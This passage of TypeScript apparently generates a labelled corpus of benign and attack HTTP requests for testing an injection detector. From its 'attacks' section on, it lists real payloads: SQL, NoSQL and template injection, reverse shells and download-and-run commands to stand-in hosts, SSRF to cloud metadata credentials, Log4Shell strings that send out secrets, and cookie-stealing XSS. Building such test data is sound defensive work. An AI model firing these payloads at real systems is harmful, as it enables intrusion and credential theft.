    path: '/graphql',
    ct: JSON_CT,
    body: gql(
      'query Vulns($eco: Ecosystem!, $pkg: String!) { securityVulnerabilities(ecosystem: $eco, package: $pkg, first: 50) { nodes { advisory { ghsaId summary severity } vulnerableVersionRange firstPatchedVersion { identifier } } } }',
      { eco: 'NPM', pkg: pick(['lodash', 'minimist', 'express']) },
    ),
  }),
  () => ({
    kind: 'search',
    method: 'GET',
    path: `/v1/advisories/search?${qs({ q: pick(['"deserialization" java', 'CWE-22 OR CWE-23', 'cve:CVE-2021-44228', 'redos regex']), sort: 'published' })}`,
    ct: null,
    body: '',
  }),
  () => ({
    kind: 'rest-write',
    method: 'POST',
    path: '/v1/repos/acme/api/dependabot/dismissals',
    ct: JSON_CT,
    body: j({
      alertNumber: int(1, 400),
      reason: pick(['tolerable_risk', 'not_used', 'inaccurate']),
      comment: 'Only used in build scripts (devDependency); input is trusted.',
    }),
  }),
  () => ({
    kind: 'delete',
    method: 'DELETE',
    path: `/v1/watchlists/me/packages/npm%2F%40types%2Fnode`,
    ct: null,
    body: '',
  }),
  () => ({
    kind: 'rest-get',
    method: 'GET',
    path: `/v1/packages/npm/${pick(['lodash', '@babel%2Fcore', 'express'])}/versions?${qs({ range: pick(['>=4.0.0 <5', '^7.22.0', '*']), include_yanked: 'false' })}`,
    ct: null,
    body: '',
  }),
];

const WIDGETS = [
  '<div class="clock" data-tz="Europe/Paris"></div><script src="https://cdn.signage.example.com/widgets/clock.v3.js" defer></script>',
  '<section class="menu"><h1>Menu du jour</h1><ul><li>Soupe — 4,50 €</li><li>Quiche lorraine — 7 €</li></ul></section><style>.menu h1{font:700 64px/1.1 Inter,sans-serif;color:#fff}</style>',
  '<div id="wx"></div><script>fetch("https://api.weather.example.com/v1/now?city=Lyon").then(r=>r.json()).then(d=>{document.getElementById("wx").textContent=d.tempC+"°C"})</script>',
  '<iframe src="https://dashboards.example.com/d/kpi?kiosk=1&refresh=30s" width="1920" height="1080" frameborder="0"></iframe>',
  '<marquee scrollamount="6">Welcome to our Toronto office! Fire drill at 14:00 — please follow the wardens.</marquee>',
];
const signage: Gen[] = [
  () => ({
    kind: 'cms-html',
    method: 'POST',
    path: '/api/v1/widgets',
    ct: JSON_CT,
    body: j({
      name: pick(['Lobby clock', 'Cafeteria menu', 'Weather', 'KPI dashboard', 'Ticker']),
      type: 'html5',
      widget: { html: pick(WIDGETS), width: 1920, height: 1080, refreshSeconds: pick([30, 60, 300]) },
    }),
  }),
  () => ({
    kind: 'rest-write',
    method: 'PUT',
    path: `/api/v1/playlists/${uuid()}`,
    ct: JSON_CT,
    body: j({
      name: 'Lobby — weekdays',
      items: Array.from({ length: int(2, 5) }, () => ({
        mediaId: uuid(),
        durationSec: pick([8, 10, 15, 30]),
        transition: pick(['fade', 'none', 'slide-left']),
      })),
      loop: true,
    }),
  }),
  () => ({
    kind: 'rest-write',
    method: 'POST',
    path: '/api/v1/schedules',
    ct: JSON_CT,
    body: j({
      playlistId: uuid(),
      screens: { group: pick(['lobby', 'cafeteria', 'floor-3']) },
      rrule: 'FREQ=WEEKLY;BYDAY=MO,TU,WE,TH,FR;BYHOUR=8;BYMINUTE=0',
      cron: '0 8 * * 1-5',
      validFrom: day(),
      priority: int(1, 10),
      timezone: 'America/Toronto',
    }),
  }),
  () => ({
    kind: 'rest-get',
    method: 'GET',
    path: `/api/v1/screens?${qs({ 'filter[status]': pick(['online', 'offline']), 'filter[lastSeen][lt]': iso(), 'filter[tags][any]': 'lobby,retail', fields: 'id,name,resolution,firmware' })}`,
    ct: null,
    body: '',
  }),
  () => ({
    kind: 'multipart',
    method: 'POST',
    path: '/api/v1/media',
    ...(() => {
      const m = multipart(
        { folder: '/Marketing/Q4 2026', tags: 'promo,holiday' },
        {
          name: 'file',
          filename: 'promo-banner.svg',
          type: 'image/svg+xml',
          data: '<svg xmlns="http://www.w3.org/2000/svg" width="1920" height="200"><rect width="100%" height="100%" fill="#c00"/><text x="50" y="130" font-size="96" fill="#fff">-20% this week</text></svg>',
        },
      );
      return { ct: m.ct, body: m.body };
    })(),
  }),
  () => ({
    kind: 'jsonapi',
    method: 'PATCH',
    path: `/api/v1/jsonapi/screens/${uuid()}`,
    ct: 'application/vnd.api+json',
    body: j({
      data: {
        type: 'screens',
        id: uuid(),
        attributes: {
          name: `${pick(CITIES)} — Lobby ${int(1, 4)}`,
          orientation: pick(['landscape', 'portrait']),
          volume: 0,
        },
        relationships: { playlist: { data: { type: 'playlists', id: uuid() } } },
      },
    }),
  }),
  () => ({
    kind: 'rest-write',
    method: 'POST',
    path: `/api/v1/screens/${uuid()}/commands`,
    ct: JSON_CT,
    body: j({
      command: pick(['reboot', 'screenshot', 'clear-cache']),
      payload: { reason: 'frozen on splash screen' },
    }),
  }),
  () => ({
    kind: 'delete',
    method: 'DELETE',
    path: `/api/v1/media/${uuid()}?force=true`,
    ct: null,
    body: '',
  }),
  () => ({
    kind: 'graphql',
    method: 'POST',
    path: '/graphql',
    ct: JSON_CT,
    body: gql(
      'query Now($screen: ID!) { screen(id: $screen) { nowPlaying { item { id name } startedAt } nextUp(first: 3) { id name } health { cpuTemp uptime } } }',
      { screen: uuid() },
    ),
  }),
  () => ({
    kind: 'rest-write',
    method: 'POST',
    path: '/api/v1/feeds',
    ct: JSON_CT,
    body: j({
      type: 'rss',
      url: pick([
        'https://news.example.com/feed.xml',
        'https://www.example.org/blog/rss?category=events&lang=fr',
      ]),
      maxItems: 5,
      template: '{{title}} — {{pubDate | date:"HH:mm"}}',
    }),
  }),
];

const courses: Gen[] = [
  () => ({
    kind: 'rest-get',
    method: 'GET',
    path: `/sis/v1/terms/2027SP/sections?${qs({ subject: pick(['CS', 'MATH', 'HIST', 'CHEM']), 'number[gte]': 2000, days: pick(['MWF', 'TR']), 'seats[gt]': 0, instructor: pick(["O'Neil", 'Nakamura', 'García']), open: 'true' })}`,
    ct: null,
    body: '',
  }),
  () => ({
    kind: 'rest-write',
    method: 'POST',
    path: '/sis/v1/registrations',
    ct: JSON_CT,
    body: j({
      studentId: `S${int(1000000, 9999999)}`,
      term: '2027SP',
      actions: [
        { op: 'add', crn: String(int(10000, 99999)) },
        { op: 'drop', crn: String(int(10000, 99999)) },
        { op: 'waitlist', crn: String(int(10000, 99999)) },
      ],
      gradingOption: pick(['letter', 'pass/fail']),
    }),
  }),
  () => ({
    kind: 'rest-write',
    method: 'PUT',
    path: `/sis/v1/courses/CS-${int(2000, 4999)}/prerequisites`,
    ct: JSON_CT,
    body: j({
      rule: {
        all: [
          { course: 'CS 2110', minGrade: 'C-' },
          {
            any: [{ course: 'MATH 2210' }, { course: 'MATH 2940' }, { test: 'AP Calculus BC', minScore: 4 }],
          },
        ],
      },
      expression: '(CS 2110 >= C-) AND (MATH 2210 OR MATH 2940 OR AP_CALC_BC >= 4)',
      concurrentAllowed: false,
    }),
  }),
  () => ({
    kind: 'prose',
    method: 'POST',
    path: `/sis/v1/students/S${int(1000000, 9999999)}/advising-notes`,
    ct: JSON_CT,
    body: j({
      text: pick([
        "Discussed switching major to Data Science; needs STAT 2040 & CS 2800 by end of sophomore year. Student's GPA 3.4.",
        'Étudiante en échange (Sciences Po) — équivalences à valider par le département.',
        'Overload request (>20 credits) approved; monitor mid-term grades.',
        'Student said "I\'ll drop if the waitlist doesn\'t move by Friday."',
        PROSE[18] ?? '',
      ]),
      private: true,
    }),
  }),
  () => ({
    kind: 'json-patch',
    method: 'PATCH',
    path: `/sis/v1/sections/${int(10000, 99999)}/waitlist`,
    ct: 'application/json-patch+json',
    body: j([
      { op: 'move', from: `/entries/${int(3, 9)}`, path: '/entries/0' },
      { op: 'replace', path: '/capacity', value: 15 },
    ]),
  }),
  () => ({
    kind: 'graphql',
    method: 'POST',
    path: '/graphql',
    ct: JSON_CT,
    body: gql(
      'query Audit($sid: ID!) { degreeAudit(studentId: $sid) { program requirements { name satisfied remainingCredits courses { code grade term } } } }',
      { sid: `S${int(1000000, 9999999)}` },
      'Audit',
    ),
  }),
  () => ({
    kind: 'form',
    method: 'POST',
    path: '/sis/v1/petitions',
    ct: 'application/x-www-form-urlencoded',
    body: q({
      type: 'prereq-override',
      course: 'CS 3410',
      justification: 'Took equivalent course at TU München (Rechnerarchitektur, 6 ECTS, grade 1,7).',
      advisor: pick(NAMES),
    }),
  }),
  () => ({
    kind: 'search',
    method: 'GET',
    path: `/sis/v1/catalog/search?${qs({ q: pick(['intro to "machine learning"', "histoire de l'art", 'organic chem lab -honors', 'C++ & systems']), level: pick(['undergrad', 'grad']) })}`,
    ct: null,
    body: '',
  }),
  () => ({
    kind: 'delete',
    method: 'DELETE',
    path: `/sis/v1/registrations/2027SP/crn/${int(10000, 99999)}`,
    ct: null,
    body: '',
  }),
  () => ({
    kind: 'cms-html',
    method: 'PUT',
    path: `/sis/v1/courses/HIST-${int(1000, 3999)}/syllabus`,
    ct: JSON_CT,
    body: j({
      term: '2027SP',
      contentHtml:
        '<h1>HIST 2150: Modern Europe</h1><p>Office hours: <em>Tue 2–4pm</em>, Room 210.</p><table><tr><th>Week</th><th>Reading</th></tr><tr><td>1</td><td><a href="https://library.example.edu/reserve?id=88">Hobsbawm, ch. 1</a></td></tr></table><blockquote>“History is a conversation.”</blockquote>',
    }),
  }),
];

const DOMAINS: readonly (readonly Gen[])[] = [
  parking,
  volunteer,
  procurement,
  video,
  tax,
  advisories,
  signage,
  courses,
];

// A few extra awkward-but-benign shapes shared across domains.
const extras: Gen[] = [
  () => ({
    kind: 'code',
    method: 'POST',
    path: '/api/v1/widgets',
    ct: JSON_CT,
    body: j({
      name: 'Countdown',
      type: 'html5',
      widget: {
        html: '<div id="c"></div><script>const end=new Date("2026-12-31T23:59:59Z");setInterval(()=>{const s=Math.max(0,(end-Date.now())/1e3|0);document.getElementById("c").innerHTML=`${s/86400|0}d ${(s%86400)/3600|0}h`},1000)</script>',
        width: 800,
        height: 200,
      },
    }),
  }),
  () => ({
    kind: 'rest-write',
    method: 'POST',
    path: '/v1/integrations/webhooks',
    ct: JSON_CT,
    body: j({
      url: `https://hooks.example.com/services/${hex(8).toUpperCase()}/${hex(10)}`,
      events: ['shift.created', 'shift.cancelled'],
      secret: Buffer.from(hex(24)).toString('base64'),
      config: JSON.stringify({ retries: 3, backoff: 'exponential' }),
    }),
  }),
  () => ({
    kind: 'rest-write',
    method: 'POST',
    path: '/api/v2/auth/token/refresh',
    ct: JSON_CT,
    body: j({ refresh_token: jwt(`usr_${hex(8)}`), client_id: 'parkngo-android' }),
  }),
  () => ({
    kind: 'rest-get',
    method: 'GET',
    path: `/sis/v1/students/me/schedule.ics?${qs({ token: b64url(hex(24)), tz: 'America/New_York' })}`,
    ct: null,
    body: '',
    extra: { accept: 'text/calendar' },
  }),
];

function buildClean(): CorpusRequest[] {
  const out: CorpusRequest[] = [];
  let n = 0;
  for (let round = 0; round < 5; round++) {
    for (const dom of DOMAINS) {
      for (const gen of dom) {
        const d = gen();
        n++;
        out.push({
          id: `h23c${n}`,
          kind: d.kind,
          method: d.method,
          path: d.path,
          headers: headers(d.ct, d.extra),
          body: d.body,
        });
      }
    }
    for (const gen of extras) {
      const d = gen();
      n++;
      out.push({
        id: `h23c${n}`,
        kind: d.kind,
        method: d.method,
        path: d.path,
        headers: headers(d.ct, d.extra),
        body: d.body,
      });
    }
  }
  return out;
}

// ---------------------------------------------------------------- attacks
const PAYLOADS: Record<string, readonly string[]> = {
  sql: [
    "' OR '1'='1' -- ",
    "1' UNION SELECT username,password,NULL FROM users--",
    "'; DROP TABLE sessions;--",
    '1 AND (SELECT 1 FROM (SELECT SLEEP(5))a)',
    "x' AND extractvalue(1,concat(0x7e,(SELECT version())))-- -",
    "1);WAITFOR DELAY '0:0:5'--",
    "' || (SELECT pg_sleep(5))--",
    "admin'/**/OR/**/1=1#",
    '-1 UNION ALL SELECT table_name,NULL FROM information_schema.tables--',
    "name ASC, (CASE WHEN (SELECT substr(password,1,1) FROM users LIMIT 1)='a' THEN 1 ELSE 1/0 END)",
  ],
  nosql: [
    '{"$ne": null}',
    '{"$gt": ""}',
    '{"$where": "sleep(5000) || true"}',
    '{"$regex": "^a.*", "$options": "si"}',
    '{"$or": [{"role": "admin"}, {"_id": {"$exists": true}}]}',
    '{"$expr": {"$function": {"body": "function(){return true}", "args": [], "lang": "js"}}}',
    '{"$lookup": {"from": "users", "localField": "x", "foreignField": "x", "as": "u"}}',
    "'; return db.users.find(); var x='",
  ],
  template: [
    '{{7*7}}{{config.__class__.__init__.__globals__["os"].popen("id").read()}}',
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    '${T(java.lang.Runtime).getRuntime().exec("id")}',
    '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}',
    '#set($x="")#set($rt=$x.class.forName("java.lang.Runtime"))$rt.getRuntime().exec("whoami")',
    "{{constructor.constructor(\"return process.mainModule.require('child_process').execSync('id')\")()}}",
    '<%= `cat /etc/passwd` %>',
    "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id').toString()\")()}}",
    '*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec("id").getInputStream())}',
    '{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=="catch_warnings" %}{{ c()._module.__builtins__["__import__"]("os").system("id") }}{% endif %}{% endfor %}',
  ],
  command: [
    '; cat /etc/passwd',
    '| nc attacker.example.net 4444 -e /bin/sh',
    '$(curl -s http://203.0.113.9/x.sh | sh)',
    '`id`',
    '&& wget http://203.0.113.9/m -O /tmp/m && chmod +x /tmp/m && /tmp/m',
    "'; bash -i >& /dev/tcp/203.0.113.9/9001 0>&1; #",
    '|| powershell -nop -w hidden -c "IEX(New-Object Net.WebClient).DownloadString(\'http://203.0.113.9/a.ps1\')"',
    '%0Aid%0A',
    '; ${IFS}cat${IFS}/etc/shadow',
    '& ping -n 10 127.0.0.1 &',
  ],
  'path-traversal': [
    '../../../../etc/passwd',
    '..%2f..%2f..%2f..%2fetc%2fshadow',
    '....//....//....//etc/passwd',
    '..\\..\\..\\windows\\win.ini',
    '%2e%2e%2f%2e%2e%2f%2e%2e%2fproc%2fself%2fenviron',
    '/var/www/../../etc/passwd%00.png',
    '..%252f..%252f..%252fetc%252fpasswd',
    'file:///etc/passwd',
    '../../../../../../root/.ssh/id_rsa',
    '..%c0%af..%c0%af..%c0%afetc/passwd',
  ],
  ssrf: [
    'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
    'http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token',
    'http://127.0.0.1:2375/containers/json',
    'http://[::ffff:a9fe:a9fe]/latest/meta-data/',
    'gopher://127.0.0.1:6379/_FLUSHALL%0D%0ASET%20x%20pwn%0D%0A',
    'http://0x7f000001:8500/v1/agent/self',
    'http://2130706433/admin',
    'http://localhost:9200/_cat/indices',
    'dict://127.0.0.1:11211/stats',
    'http://169.254.169.254.nip.io/latest/user-data',
    'http://100.100.100.200/latest/meta-data/ram/security-credentials/',
  ],
  log4shell: [
    '${jndi:ldap://203.0.113.9:1389/Exploit}',
    '${jndi:rmi://attacker.example.net/a}',
    '${${lower:j}${lower:n}${lower:d}${lower:i}:ldap://x.attacker.example.net/a}',
    '${${::-j}${::-n}${::-d}${::-i}:dns://x.oast.example/a}',
    '${jndi:${lower:l}${lower:d}a${lower:p}://203.0.113.9/o}',
    '${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//203.0.113.9/a}',
    '${jndi:ldaps://attacker.example.net/${env:AWS_SECRET_ACCESS_KEY}}',
    '${j${k8s:k5:-ND}i${sd:k5:-:}ldap://203.0.113.9/z}',
  ],
  xss: [
    '<script>fetch("https://attacker.example.net/c?"+document.cookie)</script>',
    '<img src=x onerror=alert(document.domain)>',
    '<svg/onload=eval(atob("YWxlcnQoMSk="))>',
    '"><iframe src="javascript:alert(1)"></iframe>',
    '<a href="jAvAsCrIpT:alert(\'x\')">click</a>',
    '<details open ontoggle=import("//attacker.example.net/x.js")>',
    '<body onpageshow=alert(1)>',
    '</textarea><script>new Image().src="//203.0.113.9/?"+localStorage.token</script>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<input autofocus onfocus=alert(1)>',
  ],
  'prototype-pollution': [],
};

interface Slot {
  method: string;
  path: string;
  ct: string;
  build: (p: string) => string;
  technique: string;
}

// JSON API endpoints where a string payload lands in an ordinary (non-excluded) field.
const SLOTS: Slot[] = [
  {
    method: 'POST',
    path: '/api/v2/support/tickets',
    ct: JSON_CT,
    technique: 'json-string-field',
    build: (p) => j({ category: 'billing', message: `Charged twice for session ${p}`, locale: 'en-US' }),
  },
  {
    method: 'POST',
    path: '/api/v2/parking/sessions',
    ct: JSON_CT,
    technique: 'json-nested-field',
    build: (p) =>
      j({
        lotId: 'lot_8f2a1c',
        plate: p,
        startAt: '2026-11-02T08:00:00Z',
        vehicle: { make: 'Tesla', ev: true },
      }),
  },
  {
    method: 'PATCH',
    path: '/v1/signups/4f1c2a9e-3b7d-4e11-a0c2-5d9e8b7f6a10',
    ct: 'application/merge-patch+json',
    technique: 'merge-patch-value',
    build: (p) => j({ note: p }),
  },
  {
    method: 'POST',
    path: '/v1/signups',
    ct: 'application/vnd.api+json',
    technique: 'jsonapi-attribute',
    build: (p) =>
      j({
        data: {
          type: 'signups',
          attributes: { note: 'see you there', emergencyContact: { name: p, phone: '+1 555 0100' } },
          relationships: { shift: { data: { type: 'shifts', id: '9b2e' } } },
        },
      }),
  },
  {
    method: 'POST',
    path: '/procurement/v1/requisitions/REQ-44102/comments',
    ct: JSON_CT,
    technique: 'json-prose-suffix',
    build: (p) => j({ author: 'Chen Wei', text: `Supplier confirmed MOQ 10. ${p}` }),
  },
  {
    method: 'POST',
    path: '/punchout/v1/sessions/a1b2c3d4e5f60718/cart',
    ct: JSON_CT,
    technique: 'json-array-item',
    build: (p) =>
      j({
        items: [
          { supplierPartID: 'HP-26A', quantity: 2 },
          { supplierPartID: p, quantity: 1, description: 'Toner' },
        ],
      }),
  },
  {
    method: 'POST',
    path: '/v1/meetings/8812345678/chat',
    ct: JSON_CT,
    technique: 'chat-message',
    build: (p) => j({ to: 'everyone', text: p }),
  },
  {
    method: 'POST',
    path: '/v1/users/me/meetings',
    ct: JSON_CT,
    technique: 'json-deep-settings',
    build: (p) =>
      j({ topic: 'Weekly sync', duration: 30, settings: { waiting_room: true, alternative_hosts: p } }),
  },
  {
    method: 'POST',
    path: '/api/returns/0b7e3c41-9a22-4d5f-8e61-2c4d7a9b1e30/advisor-notes',
    ct: JSON_CT,
    technique: 'json-string-field',
    build: (p) => j({ note: p, visibility: 'internal' }),
  },
  {
    method: 'PATCH',
    path: '/api/returns/0b7e3c41-9a22-4d5f-8e61-2c4d7a9b1e30/taxpayer',
    ct: 'application/merge-patch+json',
    technique: 'merge-patch-nested',
    build: (p) => j({ address: { line1: p, city: 'Austin', state: 'TX' } }),
  },
  {
    method: 'POST',
    path: '/v1/advisories/GHSA-x2f4-9q7c-11aa/comments',
    ct: JSON_CT,
    technique: 'json-string-field',
    build: (p) => j({ body: p }),
  },
  {
    method: 'POST',
    path: '/v1/repos/acme/api/dependabot/dismissals',
    ct: JSON_CT,
    technique: 'json-string-field',
    build: (p) => j({ alertNumber: 17, reason: 'not_used', comment: p }),
  },
  {
    method: 'PUT',
    path: '/api/v1/playlists/7c1d9e22-5f3a-4b80-9d11-a4e6c3b2f901',
    ct: JSON_CT,
    technique: 'json-array-object',
    build: (p) => j({ name: 'Lobby', items: [{ mediaId: p, durationSec: 10 }], loop: true }),
  },
  {
    method: 'POST',
    path: '/api/v1/schedules',
    ct: JSON_CT,
    technique: 'json-string-field',
    build: (p) => j({ playlistId: '7c1d9e22', screens: { group: p }, priority: 3, timezone: 'UTC' }),
  },
  {
    method: 'POST',
    path: '/sis/v1/registrations',
    ct: JSON_CT,
    technique: 'json-array-object',
    build: (p) => j({ studentId: 'S4410229', term: '2027SP', actions: [{ op: 'add', crn: p }] }),
  },
  {
    method: 'POST',
    path: '/sis/v1/students/S4410229/advising-notes',
    ct: JSON_CT,
    technique: 'json-prose-suffix',
    build: (p) => j({ text: `Met with student re: overload. ${p}`, private: true }),
  },
  {
    method: 'POST',
    path: '/graphql',
    ct: JSON_CT,
    technique: 'graphql-variable',
    build: (p) => gql('query Supplier($id: ID!) { supplier(id: $id) { name rating } }', { id: p }),
  },
  {
    method: 'POST',
    path: '/v1/integrations/webhooks',
    ct: JSON_CT,
    technique: 'json-in-string',
    build: (p) =>
      j({
        url: 'https://hooks.example.com/x',
        events: ['shift.created'],
        config: JSON.stringify({ retries: 3, label: p }),
      }),
  },
];

// Slots where a URL (ssrf) or a path (traversal) fits naturally.
const URL_SLOTS: Slot[] = [
  {
    method: 'POST',
    path: '/api/v1/feeds',
    ct: JSON_CT,
    technique: 'feed-url',
    build: (p) => j({ type: 'rss', url: p, maxItems: 5 }),
  },
  {
    method: 'POST',
    path: '/v1/integrations/webhooks',
    ct: JSON_CT,
    technique: 'webhook-url',
    build: (p) => j({ url: p, events: ['shift.created'], secret: 'c2VjcmV0' }),
  },
  {
    method: 'POST',
    path: '/punchout/v1/setup',
    ct: JSON_CT,
    technique: 'punchout-return-url',
    build: (p) => j({ operation: 'create', buyerCookie: 'a1b2c3', browserFormPost: { url: p } }),
  },
  {
    method: 'POST',
    path: '/v1/advisories',
    ct: JSON_CT,
    technique: 'reference-url',
    build: (p) => j({ summary: 'Path traversal', references: [{ type: 'WEB', url: p }] }),
  },
  {
    method: 'POST',
    path: '/api/v1/media/import',
    ct: JSON_CT,
    technique: 'import-from-url',
    build: (p) => j({ sourceUrl: p, folder: '/Marketing' }),
  },
  {
    method: 'PUT',
    path: '/v1/users/me/avatar',
    ct: JSON_CT,
    technique: 'avatar-url',
    build: (p) => j({ imageUrl: p }),
  },
];
const PATH_SLOTS: Slot[] = [
  {
    method: 'POST',
    path: '/api/documents/export',
    ct: JSON_CT,
    technique: 'json-filename',
    build: (p) => j({ returnId: '0b7e3c41', filename: p, format: 'pdf' }),
  },
  {
    method: 'POST',
    path: '/api/v1/media',
    ct: JSON_CT,
    technique: 'json-folder',
    build: (p) => j({ folder: p, name: 'banner.png' }),
  },
  {
    method: 'POST',
    path: '/v1/meetings/files/attach',
    ct: JSON_CT,
    technique: 'json-attachment-path',
    build: (p) => j({ meetingId: '8812345678', attachment: { path: p } }),
  },
  {
    method: 'POST',
    path: '/v1/sbom/scan',
    ct: JSON_CT,
    technique: 'json-lockfile-path',
    build: (p) => j({ lockfile: p, ecosystem: 'npm' }),
  },
  {
    method: 'PUT',
    path: '/sis/v1/courses/CS-3410/materials',
    ct: JSON_CT,
    technique: 'json-template-name',
    build: (p) => j({ template: p, term: '2027SP' }),
  },
];

const PP_BODIES: readonly { path: string; method: string; ct: string; body: string; technique: string }[] = [
  {
    path: '/v1/volunteers/4f1c2a9e/availability',
    method: 'PUT',
    ct: JSON_CT,
    technique: '__proto__-top-level',
    body: '{"timezone":"UTC","__proto__":{"isAdmin":true}}',
  },
  {
    path: '/api/v2/parking/sessions/5d2c',
    method: 'PATCH',
    ct: 'application/merge-patch+json',
    technique: '__proto__-merge-patch',
    body: '{"note":"ok","__proto__":{"role":"admin"}}',
  },
  {
    path: '/procurement/v1/purchase-orders/PO-4471',
    method: 'PATCH',
    ct: 'application/merge-patch+json',
    technique: 'constructor-prototype',
    body: '{"shipTo":{"constructor":{"prototype":{"approved":true}}}}',
  },
  {
    path: '/api/v1/playlists/7c1d',
    method: 'PUT',
    ct: JSON_CT,
    technique: '__proto__-nested',
    body: '{"name":"Lobby","items":[{"mediaId":"m1","__proto__":{"shell":"/proc/self/exe","NODE_OPTIONS":"--require /proc/self/environ"}}]}',
  },
  {
    path: '/sis/v1/sections/41022/waitlist',
    method: 'PATCH',
    ct: 'application/json-patch+json',
    technique: 'json-patch-proto-path',
    body: '[{"op":"add","path":"/__proto__/isAdmin","value":true}]',
  },
  {
    path: '/catalog/v3/items/SKU-1a2b3c',
    method: 'PATCH',
    ct: 'application/json-patch+json',
    technique: 'json-patch-constructor-path',
    body: '[{"op":"replace","path":"/constructor/prototype/price","value":0}]',
  },
  {
    path: '/v1/signups',
    method: 'POST',
    ct: 'application/vnd.api+json',
    technique: '__proto__-jsonapi-attributes',
    body: '{"data":{"type":"signups","attributes":{"note":"hi","__proto__":{"verified":true}}}}',
  },
  {
    path: '/api/returns/0b7e/forms/1040/lines',
    method: 'PUT',
    ct: JSON_CT,
    technique: 'unicode-escaped-proto',
    body: '{"taxYear":2025,"\\u005f\\u005fproto\\u005f\\u005f":{"refundOverride":99999}}',
  },
  {
    path: '/v1/users/me/meetings',
    method: 'POST',
    ct: JSON_CT,
    technique: '__proto__-settings',
    body: '{"topic":"sync","settings":{"__proto__":{"join_before_host":true,"outputFunctionName":"x;process.mainModule.require(\'child_process\').execSync(\'id\');x"}}}',
  },
  {
    path: '/api/v1/screens/8a1f/commands',
    method: 'POST',
    ct: JSON_CT,
    technique: 'constructor-prototype-ejs',
    body: '{"command":"reboot","payload":{"constructor":{"prototype":{"client":true,"escapeFunction":"1;return process.mainModule.require(\'child_process\').execSync(\'id\')"}}}}',
  },
  {
    path: '/v1/integrations/webhooks',
    method: 'POST',
    ct: JSON_CT,
    technique: '__proto__-json-in-string',
    body: '{"url":"https://hooks.example.com/x","config":"{\\"__proto__\\":{\\"polluted\\":\\"yes\\"}}"}',
  },
  {
    path: '/api/v1/schedules',
    method: 'POST',
    ct: JSON_CT,
    technique: '__proto__-array-of-objects',
    body: '{"playlistId":"p1","rules":[{"day":"mon"},{"__proto__":{"priority":0}}]}',
  },
  {
    path: '/punchout/v1/sessions/a1b2/cart',
    method: 'POST',
    ct: JSON_CT,
    technique: 'prototype-key-dotted',
    body: '{"items":[{"supplierPartID":"HP-26A"}],"extrinsic":{"__proto__.isAdmin":true,"constructor.prototype.isAdmin":true}}',
  },
  {
    path: '/api/v2/parking/lots?__proto__[isAdmin]=true&radius_m=500',
    method: 'GET',
    ct: '',
    technique: 'query-bracket-proto',
    body: '',
  },
  {
    path: '/v1/orgs/org_1a2b3c/shifts?constructor[prototype][role]=admin&status=open',
    method: 'GET',
    ct: '',
    technique: 'query-bracket-constructor',
    body: '',
  },
];

/** Varies the surrounding of a payload: as is, padded with whitespace, or after a benign first line. */
function encodeVariant(p: string, v: number): { p: string; tech: string } {
  switch (v % 3) {
    case 1:
      return { p: `  ${p}\n`, tech: 'whitespace-padded' };
    case 2:
      return { p: `thanks!\n${p}`, tech: 'after-benign-line' };
    default:
      return { p, tech: 'plain' };
  }
}

function buildAttacks(): CorpusRequest[] {
  const out: CorpusRequest[] = [];
  let n = 0;
  const push = (
    family: string,
    technique: string,
    method: string,
    path: string,
    ct: string,
    body: string,
    extra?: Record<string, string>,
  ): void => {
    n++;
    out.push({
      id: `h23a${n}`,
      kind: 'attack',
      family,
      technique,
      method,
      path,
      headers: headers(ct || null, extra),
      body,
    });
  };
  const fams = ['sql', 'nosql', 'template', 'command', 'xss', 'log4shell'] as const;
  for (const fam of fams) {
    const pl = PAYLOADS[fam] ?? [];
    for (let i = 0; i < 30; i++) {
      const payload = pl[i % pl.length] ?? '';
      const mode = i % 10;
      if (fam === 'nosql' && mode < 6) {
        // Operator objects in JSON (not strings).
        const op = JSON.parse(payload.startsWith('{') ? payload : '{"$ne":null}') as unknown;
        const shapes = [
          {
            method: 'POST',
            path: '/v2/auth/login',
            technique: 'operator-object-login',
            body: j({ username: 'admin', password: op }),
          },
          {
            method: 'POST',
            path: '/sis/v1/students/lookup',
            technique: 'operator-object-filter',
            body: j({ filter: { studentId: op, term: '2027SP' } }),
          },
          {
            method: 'POST',
            path: '/api/returns/query',
            technique: 'operator-object-nested',
            body: j({ where: { owner: { email: op } }, limit: 10 }),
          },
          {
            method: 'POST',
            path: '/v1/advisories/query',
            technique: 'operator-in-array',
            body: j({ filters: [{ severity: 'high' }, { package: op }] }),
          },
          { method: 'POST', path: '/api/v1/screens/query', technique: 'operator-object-top', body: j(op) },
          {
            method: 'POST',
            path: '/graphql',
            technique: 'graphql-variable-object',
            body: gql('query Find($f: JSON!) { volunteers(filter: $f) { id email } }', { f: { email: op } }),
          },
        ];
        const s = shapes[mode] ?? shapes[0];
        if (s) push(fam, s.technique, s.method, s.path, JSON_CT, s.body);
        continue;
      }
      if (fam === 'nosql' && mode >= 6) {
        const qv = [
          `/v1/opportunities/search?${'q=food&near[$ne]=x'}`,
          '/api/v2/parking/lots?filter[owner][$regex]=.*&radius_m=500',
          '/sis/v1/terms/2027SP/sections?instructor[$gt]=&open=true',
          `/api/returns?filter[status]=${encodeURIComponent("draft'; return true; var x='")}`,
        ];
        push(fam, 'query-operator', 'GET', qv[mode - 6] ?? qv[0] ?? '', '', '');
        continue;
      }
      if (fam === 'log4shell' && mode >= 7) {
        const hdr = pick(['user-agent', 'x-api-version', 'referer']);
        push(fam, `header-${hdr}`, 'GET', `/v1/users/me/meetings?type=upcoming`, '', '', { [hdr]: payload });
        continue;
      }
      if (mode === 9 && fam !== 'log4shell') {
        const sp = pick([
          '/v1/advisories/search?q=',
          '/sis/v1/catalog/search?q=',
          '/api/v2/parking/search?q=',
          '/v1/recordings/search?q=',
        ]);
        push(fam, 'query-string-param', 'GET', `${sp}${encodeURIComponent(payload)}&page=1`, '', '');
        continue;
      }
      if (mode === 8) {
        const lines = [
          j({ evse: 'EVSE-1A2B3C', ts: '2026-11-02T08:00:00Z', status: 'Charging' }),
          j({ evse: 'EVSE-1A2B3C', ts: '2026-11-02T08:05:00Z', status: 'Faulted', errorCode: payload }),
        ];
        push(
          fam,
          'ndjson-line',
          'POST',
          '/api/v2/chargers/telemetry:batch',
